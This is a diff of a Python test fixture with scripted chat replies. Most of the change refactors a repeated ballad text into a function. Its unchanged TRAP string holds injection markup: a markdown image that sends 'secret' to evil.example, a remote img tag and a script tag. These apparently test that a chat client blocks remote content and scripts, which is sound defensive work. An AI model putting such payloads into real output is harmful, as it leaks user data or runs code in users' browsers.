@@ -11,11 +11,15 @@ import re
 
 from tests.scripted.script import ChatRequest, Reply
 
-BALLAD = "\n\n".join(
-    f"Verse {number}. The lamp was lit, the ledger read, the harbour lay in rain; "
-    f"the keeper counted {number * 7} ships and counted them again."
-    for number in range(1, 41)
-)
+
+def ballad(verses: int) -> str:
+    return "\n\n".join(
+        f"Verse {number}. The lamp was lit, the ledger read, the harbour lay in rain; "
+        f"the keeper counted {number * 7} ships and counted them again."
+        for number in range(1, verses + 1)
+    )
+
+
 TRAP = (
     "Here is a picture ![chart](https://evil.example/x.png?d=secret) and <img src='https://evil.example/y.png'> and "
     "<script>document.title='owned'</script> and a [link](https://evil.example/z).\n\n"
@@ -39,14 +43,17 @@ def area(radius: float) -> float:
 QUOTING = "The diary says “On Monday the heron came back to the pond.” and also “The heron left for good on Friday evening.”"
 SAYS = {
     "quote the diary": Reply(QUOTING),
-    "ballad": Reply(BALLAD, tokens_per_second=60),
+    "long ballad": Reply(
+        ballad(400), tokens_per_second=60
+    ),  # for who stops it: slow machines get there in time, too
+    "ballad": Reply(ballad(40), tokens_per_second=60),
     "remote picture": Reply(TRAP),
     "compare the two": Reply(RICH),
     "think first": Reply(
         "Seventeen.", thinking="The person wants a number. Seventeen is one. It is prime, too."
     ),
     "hold the line": Reply("Yes?", hold_after=0),
-    "break off": Reply(BALLAD, tokens_per_second=200, drop_after=400),
+    "break off": Reply(ballad(40), tokens_per_second=200, drop_after=400),
 }
 _SOLUTIONS = {
     "how many lines": 'print(sum("green" in line for line in context.splitlines()))',
